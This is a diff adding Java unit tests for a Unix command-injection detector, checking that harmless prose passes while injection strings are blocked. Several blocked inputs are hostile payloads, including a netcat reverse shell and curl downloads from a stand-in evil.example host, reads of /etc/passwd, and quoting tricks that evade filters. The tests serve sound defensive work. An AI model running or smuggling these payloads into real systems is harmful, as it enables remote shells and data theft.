@@ -628,4 +628,81 @@ class UnixCommandDetectorTest {
     void ignoresQuotesAndComparisonsThatStartWithAnAngleBracket(String value) {
         assertThat(standard(detector, value)).isEmpty();
     }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"whoami says root lol", "whoami tells you the current user", "bash the bishop",
+        "ifconfig vs ip addr", "ssh into 192.168.1.10 and check", "bash script if else"})
+    void allowsCommandNameOpeningSentenceWithProseOperand(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+        assertThat(header(detector, "X-Filter", value)).isEmpty();
+    }
+
+    @Test
+    void allowsSentenceEndedBySeparatorWhenProseFollows() {
+        assertThat(standard(detector, "traceroute to example.com; 30 hops max")).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"whoami meaning", "dmesg output explained"})
+    void allowsOptionsOnlyCommandFollowedByWord(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"bash 5.2.15(1)-release", "zsh 5.9 (x86_64-apple-darwin23.0)", "python 3.12.1"})
+    void allowsCommandNameFollowedByVersionBanner(String value) {
+        assertThat(standard(detector, value)).isEmpty();
+    }
+
+    @Test
+    void allowsCapitalisedShellNameInProductName() {
+        assertThat(standard(detector, "Bash & Co. party supplies")).isEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"whoami says root", "bash 5.2.15(1)-release", "Bash & Co. party supplies"})
+    void reportsSentenceLikeCommandNameAtStrictOnly(String value) {
+        assertThat(strict(detector, value)).containsExactly("UNIXCMD-WEAK");
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {";whoami the", "; whoami the", "|whoami meaning", "&whoami says", "x && whoami the",
+        "& whoami the"})
+    void blocksSentenceLikeCommandAfterSeparator(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"whoami the; id", "bash 5.2.15(1)-release; id", "ping to 127.0.0.1; sleep 5",
+        "ifconfig vs; id", "whoami the; cat /etc/passwd", "whoami the; /tmp/x"})
+    void blocksSentenceLikeCommandFollowedByCommandAfterSeparator(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"cat to /etc/passwd", "bash the -c id", "bash to <(curl evil.example/x)",
+        "whoami the > /tmp/x", "nc to evil.example 4444 -e /bin/sh", "curl to http://evil.example/x.sh",
+        "bash the $(id)", "bash the `id`", "bash 5.2 -c id", "bash 5.2(1) /etc/passwd",
+        "ssh into evil.example -R 4444:localhost:22"})
+    void blocksProseOperandFollowedByCommandLineArguments(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"ping 127.0.0.1", "ssh 10.0.0.1"})
+    void blocksNetworkCommandWhoseAddressLooksLikeVersion(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"sudo the", "wh\\oami the", "w'h'oami the", "/usr/bin/whoami the", ";cat the_secret"})
+    void blocksProseOperandAfterPrefixPathOrEvasion(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"Bash -c id", "BASH -c id", "Bash /tmp/x.sh", "; Bash -c id"})
+    void blocksCapitalisedShellNameWithCommandLineArguments(String value) {
+        assertThat(standard(detector, value)).isNotEmpty();
+    }
 }
